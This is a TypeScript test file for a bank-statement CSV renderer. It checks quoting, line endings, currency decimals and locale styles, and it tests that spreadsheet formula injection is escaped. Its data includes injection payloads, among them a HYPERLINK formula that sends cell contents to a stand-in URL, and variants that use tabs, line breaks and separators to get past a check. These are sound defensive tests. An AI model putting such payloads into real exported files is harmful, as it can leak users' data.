// Statements as CSV: RFC 4180, and nothing that a spreadsheet would run.
import { expect, test } from 'vitest';
import { statementExample } from './contract.ts';
import { renderCsv } from './render-csv.ts';
import { textCell } from './text-cell.ts';

const header =
  'transaction_id,timestamp,effective_at,type,description,counterparty_account_id,amount,currency,balance_after';

test('a header, one row per line, CRLF, and all decimals of the currency', () => {
  expect(renderCsv(statementExample, 'plain')).toBe(
    `${header}\r\n` +
      '1,2026-11-23T08:00:00.000000Z,2026-11-23T08:00:00.000000Z,opening,,,1000.00,USD,1000.00\r\n' +
      '2,2026-11-23T08:00:01.000000Z,2026-11-23T08:00:01.000000Z,deposit,,,500.00,USD,1500.00\r\n',
  );
});

test('a statement without lines is its header', () => {
  expect(renderCsv({ ...statementExample, entries: [] }, 'plain')).toBe(`${header}\r\n`);
});

test.each([
  ['plain', 'transaction_id,', ',-0.50,USD,'],
  ['comma-point', '\uFEFFtransaction_id,', ',-0.50,USD,'],
  ['semicolon-comma', '\uFEFFtransaction_id;', ';-0,50;USD;'],
  ['semicolon-point', '\uFEFFtransaction_id;', ';-0.50;USD;'],
] as const)('a file of style %s is written as its readers write', (style, start, amount) => {
  const [line] = statementExample.entries;
  const csv = renderCsv({ ...statementExample, entries: [{ ...line!, amount: -0.5 }] }, style);
  expect(csv.startsWith(start)).toBe(true);
  expect(csv).toContain(amount);
});

test.each([
  ['USD', -0.1, '-0.10'],
  ['USD', 9999999999999.99, '9999999999999.99'],
  ['JPY', -1500, '-1500'],
  ['KWD', 999999999999.999, '999999999999.999'],
] as const)('in %s, %d stays the number %s', (currency, amount, text) => {
  const [line] = statementExample.entries;
  const csv = renderCsv({ ...statementExample, currency, entries: [{ ...line!, amount }] }, 'plain');
  expect(csv.split('\r\n')[1]).toContain(`,opening,,,${text},${currency},`);
});

test.each([
  ['Rent', 'Rent'],
  ['', ''],
  ['Zürich €', 'Zürich €'],
  ['5 - 3 = 2', '5 - 3 = 2'],
  ['Rent, November', '"Rent, November"'],
  ['the "good" flat', '"the ""good"" flat"'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['a;b', '"a;b"'],
  ['=1+1', `"'=1+1"`],
  ['=HYPERLINK("http://x.test?"&A1,"refund")', `"'=HYPERLINK(""http://x.test?""&A1,""refund"")"`],
  ['+1', `"'+1"`],
  ['-1', `"'-1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['  =1', `"  '=1"`],
  ['\t=1', `"'\t'=1"`],
  ['\r=1', `"'\r'=1"`],
  ['\n=1', `"'\n'=1"`],
  ['\tindented', `"'\tindented"`],
  ['＝1+1', `"'＝1+1"`],
  // Where other readers' spreadsheets begin a cell.
  ['rent;=1+1;x', `"rent;'=1+1;x"`],
  ['rent; "=1+1"', `"rent; ""'=1+1"""`],
  ['a,+1', `"a,'+1"`],
  ['a|-1', `"a|'-1"`],
  ['a:@b', `"a:'@b"`],
  ['a\t=1', `"a\t'=1"`],
  ['pay =1+1', `"pay '=1+1"`],
  ['10 % - as agreed', '10 % - as agreed'],
])('the text %j is written %s', (text, cell) => {
  expect(textCell(text)).toBe(cell);
});
